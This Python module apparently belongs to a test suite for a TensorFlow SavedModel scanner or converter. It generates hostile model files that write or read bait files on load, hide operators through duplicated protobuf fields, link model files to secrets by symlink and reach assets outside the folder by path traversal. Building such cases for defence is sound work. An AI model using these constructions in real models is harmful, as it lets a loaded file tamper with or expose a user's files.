"""More kinds of `hostile_graphs`: things said twice, files of TensorFlow 1, and what lies beside the graph."""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

from attacks.hostile_graphs import ATTACKS, OPERATORS, attack, save, secret, write, write_graph, written

__all__ = ["ATTACKS"]

GRAPH = "saved_model.pb"
META_GRAPHS, NODES, LIBRARY, FUNCTIONS, SIGNATURE, FUNCTION_NODES, ATTRIBUTES = 2, 1, 2, 1, 1, 3, 5
GRAPH_DEF, SAVER_DEF, SIGNATURES, OBJECTS = 2, 3, 5, 7


def field(number: int, value: bytes | str) -> bytes:
    """A field as it is written, to be put beside another of the same number."""
    data = value.encode() if isinstance(value, str) else value
    size, head = len(data), bytearray([number << 3 | 2])
    while size > 0x7F:
        head.append(size & 0x7F | 0x80)
        size >>= 7
    return bytes((*head, size)) + data


def parsed(folder: Path) -> Any:
    from tensorflow.core.protobuf import saved_model_pb2

    return saved_model_pb2.SavedModel.FromString((folder / GRAPH).read_bytes())


def put(folder: Path, message: Any) -> None:
    data = message if isinstance(message, bytes) else message.SerializeToString()
    (folder / GRAPH).write_bytes(data)
    (folder / "fingerprint.pb").unlink(missing_ok=True)


def without(message: Any, *names: str) -> bytes:
    """A message without some of its fields, as bytes."""
    copy = type(message).FromString(message.SerializeToString())
    for name in names:
        copy.ClearField(name)
    data: bytes = copy.SerializeToString()
    return data


def with_library(message: Any, functions: Iterable[bytes], *more: bytes) -> bytes:
    """The SavedModel with these functions, as bytes, and what is more in the library."""
    graph = message.meta_graphs[0]
    library = b"".join([*(field(FUNCTIONS, one) for one in functions), *more])
    inner = without(graph.graph_def, "library") + field(LIBRARY, library)
    return field(META_GRAPHS, without(graph, "graph_def") + field(GRAPH_DEF, inner))


def harmless(tf: Any, folder: Path) -> Any:
    save(tf, folder, lambda x: tf.nn.relu(x))
    return parsed(folder)


def writing(tf: Any, folder: Path, bait: Path) -> Any:
    save(tf, folder, lambda x: write(tf, bait))
    return parsed(folder)


def function_with(message: Any, op: str) -> Any:
    library = message.meta_graphs[0].graph_def.library
    return next(one for one in library.function if any(node.op == op for node in one.node_def))


def all_functions(message: Any) -> list[Any]:
    return list(message.meta_graphs[0].graph_def.library.function)


# ----- said twice


@attack("function with two signatures")
def function_with_two_signatures(tf: Any, folder: Path, bait: Path) -> None:
    """The operators hide in a function that nothing seems to call."""
    save(tf, folder, lambda x: OPERATORS["SaveV2"](tf, bait))
    message = parsed(folder)
    first = type(all_functions(message)[0].signature)
    functions = []
    for number, function in enumerate(all_functions(message)):
        decoy = field(SIGNATURE, first(name=f"__inference_traced_save_9{number}").SerializeToString())
        hidden = "serve" in function.signature.name
        functions.append((decoy if hidden else b"") + field(SIGNATURE, function.signature.SerializeToString()))
        functions[-1] += without(function, "signature")
    put(folder, with_library(message, functions))


def change_nodes(folder: Path, op: str, change: Callable[[Any], bytes]) -> None:
    """Encode every node of this operator in another way."""
    message = parsed(folder)
    functions = []
    for function in all_functions(message):
        nodes = [field(FUNCTION_NODES, change(one) if one.op == op else without(one)) for one in function.node_def]
        functions.append(without(function, "node_def") + b"".join(nodes))
    put(folder, with_library(message, functions))


def node_said_twice(tf: Any, folder: Path, bait: Path, change: Callable[[Any], bytes]) -> None:
    """The operator that writes is encoded in another way."""
    writing(tf, folder, bait)
    change_nodes(folder, "WriteFile", change)


@attack("operator given twice")
def operator_given_twice(tf: Any, folder: Path, bait: Path) -> None:
    node_said_twice(tf, folder, bait, lambda node: field(2, "NoOp") + without(node))


@attack("operator behind a number of its field")
def operator_behind_a_number(tf: Any, folder: Path, bait: Path) -> None:
    """Protobuf passes over a field of the wrong type."""
    node_said_twice(tf, folder, bait, lambda node: without(node) + b"\x10\x01" + b"\x15" + b"NoOp")


@attack("graph given twice")
def graph_given_twice(tf: Any, folder: Path, bait: Path) -> None:
    """Protobuf makes one of both."""
    message = writing(tf, folder, bait)
    graph = message.meta_graphs[0]
    evil = function_with(message, "WriteFile")
    rest = [one.SerializeToString() for one in all_functions(message) if one is not evil]
    halves = [
        without(graph.graph_def, "library") + field(LIBRARY, b"".join(field(FUNCTIONS, one) for one in rest)),
        field(LIBRARY, field(FUNCTIONS, evil.SerializeToString())),
    ]
    put(
        folder,
        field(META_GRAPHS, without(graph, "graph_def") + b"".join(field(GRAPH_DEF, half) for half in halves)),
    )


@attack("library given twice")
def library_given_twice(tf: Any, folder: Path, bait: Path) -> None:
    message = writing(tf, folder, bait)
    graph = message.meta_graphs[0]
    halves = [field(LIBRARY, field(FUNCTIONS, one.SerializeToString())) for one in all_functions(message)]
    inner = without(graph.graph_def, "library") + b"".join(halves)
    put(folder, field(META_GRAPHS, without(graph, "graph_def") + field(GRAPH_DEF, inner)))


@attack("objects given twice")
def objects_given_twice(tf: Any, folder: Path, bait: Path) -> None:
    """The functions that run are named in the second half."""
    save(tf, folder, lambda x: OPERATORS["SaveV2"](tf, bait))
    graph = parsed(folder).meta_graphs[0]
    objects = graph.object_graph_def
    halves = [without(objects, "concrete_functions"), without(objects, "nodes")]
    whole = without(graph, "object_graph_def") + b"".join(field(OBJECTS, half) for half in halves)
    put(folder, field(META_GRAPHS, whole))


def print_said(tf: Any, folder: Path, attribute: bytes) -> None:
    """An operator that prints to the terminal, and whose attribute for that is encoded in another way."""

    def change(node: Any) -> bytes:
        node.attr.pop("output_stream", None)
        return without(node) + attribute

    save(tf, folder, lambda x: tf.raw_ops.PrintV2(input="x", output_stream="stderr"))
    change_nodes(folder, "PrintV2", change)


def entry(value: bytes) -> bytes:
    return field(ATTRIBUTES, field(1, "output_stream") + field(2, value))


@attack("attribute given twice")
def attribute_given_twice(tf: Any, folder: Path, bait: Path) -> None:
    target = field(2, f"file://{written(bait)}")
    print_said(tf, folder, entry(field(2, "stderr")) + entry(target))


@attack("attribute with two values")
def attribute_with_two_values(tf: Any, folder: Path, bait: Path) -> None:
    target = field(2, f"file://{written(bait)}")
    print_said(tf, folder, entry(field(2, "stderr") + target))


@attack("attribute of two kinds", fires=False)
def attribute_of_two_kinds(tf: Any, folder: Path, bait: Path) -> None:
    """A list, which is empty, and then a text: the last one holds."""
    target = field(2, f"file://{written(bait)}")
    print_said(tf, folder, entry(field(1, b"") + target))


@attack("attribute handed on by the caller", fires=False)
def attribute_handed_on(tf: Any, folder: Path, bait: Path) -> None:
    print_said(tf, folder, entry(field(9, "target")))
    message = parsed(folder)
    for function in all_functions(message):
        for node in function.node_def:
            if node.attr["f"].func.name:
                node.attr["f"].func.attr["target"].s = f"file://{written(bait)}".encode()
    put(folder, message)


@attack("two nodes of one name", fires=False)
def two_nodes_of_one_name(tf: Any, folder: Path, bait: Path) -> None:
    message = writing(tf, folder, bait)
    evil = function_with(message, "WriteFile")
    writer = next(node for node in evil.node_def if node.op == "WriteFile")
    evil.node_def.add(name=writer.name, op="NoOp")
    put(folder, message)


@attack("two functions of one name", fires=False)
def two_functions_of_one_name(tf: Any, folder: Path, bait: Path) -> None:
    message = writing(tf, folder, bait)
    evil = function_with(message, "WriteFile")
    plain = message.meta_graphs[0].graph_def.library.function.add()
    plain.CopyFrom(evil)
    for node in plain.node_def:
        if node.op == "WriteFile":
            node.op, node.input[:] = "NoOp", []
    put(folder, message)


@attack("function that is called as an operator", fires=False)
def function_called_as_an_operator(tf: Any, folder: Path, bait: Path) -> None:
    """The name is that of an operator which writes, the body is harmless."""
    message = writing(tf, folder, bait)
    plain = message.meta_graphs[0].graph_def.library.function.add()
    plain.signature.name = "WriteFile"
    plain.node_def.add(name="nothing", op="NoOp")
    put(folder, message)


# ----- graphs and handles in constants


@attack("graph in a constant", fires=False)
def graph_in_a_constant(tf: Any, folder: Path, bait: Path) -> None:
    save(tf, folder, lambda x: tf.strings.length(tf.constant([b"a", write_graph(tf, bait)])))


@attack("graph in a constant in one piece", fires=False)
def graph_in_a_constant_in_one_piece(tf: Any, folder: Path, bait: Path) -> None:
    """All sizes first, then all texts: the form that the runtime writes."""
    graph_in_a_constant(tf, folder, bait)

    def change(node: Any) -> bytes:
        tensor = node.attr["value"].tensor
        if tensor.string_val:
            packed = b"".join([*(field(1, text)[1 : -len(text)] for text in tensor.string_val), *tensor.string_val])
            tensor.ClearField("string_val")
            tensor.tensor_content = packed
        return without(node)

    change_nodes(folder, "Const", change)


@attack("graph in an attribute", fires=False)
def graph_in_an_attribute(tf: Any, folder: Path, bait: Path) -> None:
    save(tf, folder, lambda x: tf.nn.relu(x))
    message = parsed(folder)
    for node in function_with(message, "Relu").node_def:
        node.attr["_held"].list.s.append(write_graph(tf, bait))
    put(folder, message)


@attack("handle in a constant", fires=False)
def handle_in_a_constant(tf: Any, folder: Path, bait: Path) -> None:
    message = harmless(tf, folder)
    node = function_with(message, "Relu").node_def.add(name="evil", op="Const")
    node.attr["dtype"].type = node.attr["value"].tensor.dtype = tf.resource.as_datatype_enum
    node.attr["value"].tensor.resource_handle_val.add(name="x", container="y")
    put(folder, message)


@attack("path as the name of a resource", fires=False)
def path_as_the_name(tf: Any, folder: Path, bait: Path) -> None:
    save(
        tf,
        folder,
        lambda x: tf.raw_ops.LookupTableSizeV2(
            table_handle=tf.raw_ops.MutableHashTableV2(
                shared_name=written(bait), key_dtype=tf.int64, value_dtype=tf.int64
            )
        ),
    )


@attack("program with a foreign call", fires=False)
def program_with_a_foreign_call(tf: Any, folder: Path, bait: Path) -> None:
    message = harmless(tf, folder)
    node = function_with(message, "Relu").node_def.add(name="evil", op="XlaCallModule")
    node.attr["module"].s = b"ML\xefR\x01stablehlo\x00custom_call_v1\x00xla_python_cpu_callback"
    put(folder, message)


@attack("operator that nobody knows", fires=False)
def operator_that_nobody_knows(tf: Any, folder: Path, bait: Path) -> None:
    message = harmless(tf, folder)
    function_with(message, "Relu").node_def.add(name="evil", op="SimpleMLLoadModelFromPath")
    put(folder, message)


# ----- objects


@attack("saver called by an object", fires=False)
def saver_called_by_an_object(tf: Any, folder: Path, bait: Path) -> None:
    """An object refers to the saver's function, which the list of functions leaves out."""
    message = harmless(tf, folder)
    saver = next(
        one.signature.name for one in all_functions(message) if any(node.op == "SaveV2" for node in one.node_def)
    )
    objects = message.meta_graphs[0].object_graph_def
    objects.concrete_functions.pop(saver, None)
    objects.nodes.add().bare_concrete_function.concrete_function_name = saver
    objects.nodes[0].children.add(local_name="_initialize", node_id=len(objects.nodes) - 1)
    put(folder, message)


# ----- beside the graph


def linked(tf: Any, folder: Path, bait: Path, name: str) -> None:
    """A file of the model is a link to the bait."""
    harmless(tf, folder)
    (folder / name).unlink(missing_ok=True)
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).symlink_to(secret(bait))


@attack("variables that are a link")
def variables_that_are_a_link(tf: Any, folder: Path, bait: Path) -> None:
    linked(tf, folder, bait, "variables/variables.data-00000-of-00001")


@attack("index of variables that is a link")
def index_that_is_a_link(tf: Any, folder: Path, bait: Path) -> None:
    linked(tf, folder, bait, "variables/variables.index")


@attack("folder of variables that is a link")
def variables_folder_that_is_a_link(tf: Any, folder: Path, bait: Path) -> None:
    harmless(tf, folder)
    for path in (folder / "variables").iterdir():
        shutil.move(path, bait / path.name)
    (folder / "variables").rmdir()
    (folder / "variables").symlink_to(bait)


@attack("graph that is a link")
def graph_that_is_a_link(tf: Any, folder: Path, bait: Path) -> None:
    linked(tf, folder, bait, GRAPH)


@attack("asset outside of the folder", fires=False)
def asset_outside(tf: Any, folder: Path, bait: Path) -> None:
    """Saving the loaded model once more would copy it."""
    message = harmless(tf, folder)
    asset = message.meta_graphs[0].asset_file_def.add(filename=f"../../baits/{bait.name}/secret")
    asset.tensor_info.name = "x:0"
    put(folder, message)


@attack("asset that is a link", fires=False)
def asset_that_is_a_link(tf: Any, folder: Path, bait: Path) -> None:
    linked(tf, folder, bait, "assets/words.txt")
    message = parsed(folder)
    message.meta_graphs[0].asset_file_def.add(filename="words.txt").tensor_info.name = "x:0"
    put(folder, message)


# These are left where they are: the rest is a model like any other, and converts.
BESIDE = {
    "chunked graph beside": "saved_model.cpb",
    "fingerprint that is a link": "fingerprint.pb",
    "notes for debugging that are a link": "debug/saved_model_debug_info.pb",
    "graph as text beside": "saved_model.pbtxt",
}


def _beside(name: str, file: str) -> None:
    @attack(name, fires=file.endswith(("t.pb", "info.pb")))
    def build(tf: Any, folder: Path, bait: Path) -> None:
        linked(tf, folder, bait, file)


for _name, _file in BESIDE.items():
    _beside(_name, _file)


# ----- files of TensorFlow 1


def version_1(tf: Any, folder: Path, act: Callable[[Any], Any], **arguments: Any) -> None:
    """A file of TensorFlow 1; `act` returns what runs on loading."""
    v1 = tf.compat.v1
    with tf.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(tf.float32, [1, 4], name="x")
        weights = v1.get_variable("w", shape=[4], use_resource=False)
        y = tf.identity(x * weights, name="y")
        session.run(v1.global_variables_initializer())
        builder = v1.saved_model.Builder(str(folder))
        signature = v1.saved_model.predict_signature_def({"x": x}, {"y": y})
        builder.add_meta_graph_and_variables(
            session, ["serve"], {"serving_default": signature}, main_op=act(v1), **arguments
        )
        builder.save()


@attack("version 1, initialization")
def version_1_initialization(tf: Any, folder: Path, bait: Path) -> None:
    version_1(tf, folder, lambda v1: write(tf, bait))


@attack("version 1, checkpoint in the initialization")
def version_1_checkpoint(tf: Any, folder: Path, bait: Path) -> None:
    version_1(tf, folder, lambda v1: OPERATORS["SaveV2"](tf, bait))


@attack("version 1, collection of texts", fires=False)
def version_1_collection_of_texts(tf: Any, folder: Path, bait: Path) -> None:
    """What runs on loading stands in a list of bytes instead of one of nodes."""
    version_1(tf, folder, lambda v1: OPERATORS["SaveV2"](tf, bait))
    message = parsed(folder)
    collections = message.meta_graphs[0].collection_def
    name = collections["saved_model_main_op"].node_list.value[0]
    collections["saved_model_main_op"].bytes_list.value.append(name.encode())
    put(folder, message)


def while_restoring(folder: Path, evil: str) -> None:
    """Make the saver run this node as well."""
    message = parsed(folder)
    graph = message.meta_graphs[0]
    graph.collection_def.pop("saved_model_main_op", None)
    restore = graph.saver_def.restore_op_name
    next(node for node in graph.graph_def.node if node.name == restore).input.append(f"^{evil}")
    put(folder, message)


@attack("version 1, checkpoint written while restoring")
def version_1_written_while_restoring(tf: Any, folder: Path, bait: Path) -> None:
    version_1(tf, folder, lambda v1: OPERATORS["SaveV2"](tf, bait))
    while_restoring(folder, "SaveV2")


@attack("version 1, variables of another file")
def version_1_variables_of_another_file(tf: Any, folder: Path, bait: Path) -> None:
    version_1(tf, folder, lambda v1: tf.group(OPERATORS["RestoreV2"](tf, bait)))
    while_restoring(folder, "RestoreV2")


@attack("version 1, saver given twice")
def version_1_saver_given_twice(tf: Any, folder: Path, bait: Path) -> None:
    version_1(tf, folder, lambda v1: OPERATORS["SaveV2"](tf, bait))
    message = parsed(folder)
    graph = message.meta_graphs[0]
    graph.collection_def.pop("saved_model_main_op", None)
    name = "SaveV2"
    evil = type(graph.saver_def)(restore_op_name=name).SerializeToString()
    put(folder, field(META_GRAPHS, without(graph) + field(SAVER_DEF, evil)))


@attack("version 1, signature that writes")
def version_1_signature(tf: Any, folder: Path, bait: Path) -> None:
    def act(v1: Any) -> Any:
        done = write(tf, bait)
        with tf.control_dependencies([done]):
            tf.identity(tf.zeros([1, 4]), name="evil")
        return tf.no_op()

    version_1(tf, folder, act)
    message = parsed(folder)
    message.meta_graphs[0].signature_def["serving_default"].outputs["y"].name = "evil:0"
    put(folder, message)
